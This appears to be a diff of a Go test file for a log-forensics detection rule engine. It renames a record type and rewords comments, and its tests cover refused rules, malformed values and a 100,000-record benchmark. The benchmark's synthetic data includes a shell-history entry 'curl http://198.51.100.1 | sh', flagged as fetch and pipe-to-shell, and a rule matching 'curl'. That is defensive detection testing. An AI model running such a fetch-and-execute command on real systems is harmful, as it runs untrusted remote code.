@@ -8,12 +8,11 @@ import (
 	"strings"
 	"testing"
 
-	"icecore/forensics/artifact"
 	"icecore/forensics/model"
 	"icecore/forensics/model/modeltest"
 )
 
-// load writes one rule to a folder and reads it as the user's.
+// load writes one rule to a directory and reads it as the user's.
 func load(t testing.TB, rules ...string) *Rules {
 	t.Helper()
 	dir := t.TempDir()
@@ -69,7 +68,7 @@ func TestUserRules(t *testing.T) {
 	}
 }
 
-// TestRefusedRules: what cannot run is told, with the reason, and the rest runs.
+// TestRefusedRules: what cannot run is named, with the reason, and the rest runs.
 func TestRefusedRules(t *testing.T) {
 	const good = head + "detection:\n  selection:\n    CommandLine|contains: curl\n  condition: selection\n"
 	for _, tt := range []struct{ name, rule, why string }{
@@ -139,9 +138,9 @@ func TestOddRules(t *testing.T) {
 func TestHostileValues(t *testing.T) {
 	r := load(t, head+"detection:\n  selection:\n    count|gt: 5\n    CommandLine|contains: x\n  condition: selection\n")
 	for _, v := range []string{"6", "~", "null", "", "[", "6e999", "0x10", "- a", "\xff\xfe", strings.Repeat("9", 1000)} {
-		rec := artifact.Record{ID: "R-1", Kind: "cron.run", Source: artifact.Source{Volume: "p1"}}
+		rec := model.Record{ID: "R-1", Kind: "cron.run", Source: model.Source{Volume: "p1"}}
 		rec.Fields = modeltest.Fields(rec.Kind, "command=x", "count="+v)
-		res, err := r.Run(t.Context(), &Input{Records: []artifact.Record{rec}})
+		res, err := r.Run(t.Context(), &Input{Records: []model.Record{rec}})
 		if err != nil {
 			t.Fatalf("%q: %v", v, err)
 		}
@@ -172,23 +171,23 @@ func BenchmarkRun(b *testing.B) {
 	if err != nil {
 		b.Fatal(err)
 	}
-	var recs []artifact.Record
+	var recs []model.Record
 	for i := range 100_000 {
-		var rec artifact.Record
+		var rec model.Record
 		switch i % 5 {
 		case 0:
-			rec = artifact.Record{Kind: "auth.failures", Fields: modeltest.Fields("auth.failures", "address="+fmt.Sprintf("192.0.2.%d", i%250), "count=3", "users=root,admin")}
+			rec = model.Record{Kind: "auth.failures", Fields: modeltest.Fields("auth.failures", "address="+fmt.Sprintf("192.0.2.%d", i%250), "count=3", "users=root,admin")}
 		case 1:
-			rec = artifact.Record{Kind: "cron.run", Fields: modeltest.Fields("cron.run", "command=/usr/local/bin/job", "programs=/usr/local/bin/job")}
+			rec = model.Record{Kind: "cron.run", Fields: modeltest.Fields("cron.run", "command=/usr/local/bin/job", "programs=/usr/local/bin/job")}
 		case 2:
-			rec = artifact.Record{Kind: "auth.sudo", Fields: modeltest.Fields("auth.sudo", "command=/usr/bin/systemctl restart app", "programs=/usr/bin/systemctl")}
+			rec = model.Record{Kind: "auth.sudo", Fields: modeltest.Fields("auth.sudo", "command=/usr/bin/systemctl restart app", "programs=/usr/bin/systemctl")}
 		case 3:
-			rec = artifact.Record{Kind: "systemd.exec", Fields: modeltest.Fields("systemd.exec", "command=/usr/bin/a", "programs=/usr/bin/a")}
+			rec = model.Record{Kind: "systemd.exec", Fields: modeltest.Fields("systemd.exec", "command=/usr/bin/a", "programs=/usr/bin/a")}
 		case 4:
-			rec = artifact.Record{Kind: "history.command", Fields: modeltest.Fields("history.command", "command=curl http://198.51.100.1 | sh", "traits=fetch,pipe_to_shell")}
+			rec = model.Record{Kind: "history.command", Fields: modeltest.Fields("history.command", "command=curl http://198.51.100.1 | sh", "traits=fetch,pipe_to_shell")}
 		}
 		rec.ID = fmt.Sprintf("R-%06d", i)
-		rec.Source = artifact.Source{Volume: "p1", Path: "/var/log/x", Inode: uint64(i % 7)}
+		rec.Source = model.Source{Volume: "p1", Path: "/var/log/x", Inode: uint64(i % 7)}
 		recs = append(recs, rec)
 	}
 	b.ResetTimer()
